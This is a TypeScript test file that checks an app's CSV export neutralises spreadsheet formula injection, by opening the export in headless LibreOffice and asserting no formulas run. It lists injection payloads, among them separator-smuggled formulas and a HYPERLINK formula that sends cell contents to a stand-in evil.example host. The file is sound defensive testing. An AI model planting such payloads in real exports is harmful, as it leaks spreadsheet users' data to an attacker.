import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { text as textOf } from 'node:stream/consumers';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exportCsv } from '#reconciliation/reports/export.ts';
import { exportOf } from '#reconciliation/reports/export-filters.ts';
import { makeAccount, useDatabase } from '../../support/database.ts';
import { anItem } from '../discrepancies/an-item.ts';

const run = promisify(execFile);
// Where LibreOffice is installed the exports are opened in it; the rule itself is tested everywhere (csv-guard.test.ts).
const OFFICE = ['/usr/bin/soffice', '/Applications/LibreOffice.app/Contents/MacOS/soffice'].find(existsSync);
const HOSTILE = [
  ...['=1+2', '+1+2', '-1+2', '@SUM(A1)', '\t=1+2', '\r=1+2', '\n=1+2', ' =1+2', '"=1+2', '＝1+2', "'=1+2"],
  ...['a;=1+2', 'a\t=1+2', 'a\n=1+2', 'a|=1+2', 'a";"=1+2', 'a;;=1+2', 'a;\t=1+2', '\ufeff=1+2'],
  '=HYPERLINK("https://evil.example/?"&A1,"Show")',
];

const database = useDatabase();
let folder = '';
let file = '';
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'counterfoil-spreadsheet-'));
  const accountId = await makeAccount(database.sql);
  for (const [place, value] of HOSTILE.entries()) {
    const id = await anItem(database.sql, accountId, { subject: `cpi_${place}` });
    await database.sql`
      update discrepancies set note = ${value}, ours = ${value}, theirs = ${value}, reference_id = ${value}
      where id = ${id.toString()}`;
  }
  const what = await exportOf(database.sql, { id: accountId, timeZone: 'UTC' }, 'discrepancies', [
    ['state', 'all'],
  ]);
  file = await textOf(await exportCsv(database.sql, what));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The cells that LibreOffice takes for formulas, where it parts cells by this sign. */
async function formulasIn(csv: string, separator: string): Promise<string[]> {
  const source = path.join(folder, 'export.csv');
  await writeFile(source, csv);
  const tokens = [separator.charCodeAt(0), 34, 76, 1, '', 0, false, true, false, false, false, -1, true];
  await run(OFFICE ?? '', [
    ...[`-env:UserInstallation=file://${folder}/profile`, '--headless', `--infilter=CSV:${tokens.join(',')}`],
    ...['--convert-to', 'fods', '--outdir', folder, source],
  ]);
  const opened = await readFile(path.join(folder, 'export.fods'), 'utf8');
  return [...opened.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula ?? '');
}

describe.skipIf(!OFFICE)('LibreOffice', () => {
  test('runs what is not guarded: else this file could find nothing', async () => {
    expect(await formulasIn('a,b\n=1+2,"=3+4"\n', ',')).toHaveLength(2);
  }, 120_000);

  test.each([',', ';', '\t', '|'])(
    'runs nothing of an export, where cells are parted by %j',
    async (separator) => {
      expect(await formulasIn(file, separator)).toEqual([]);
    },
    120_000,
  );
});
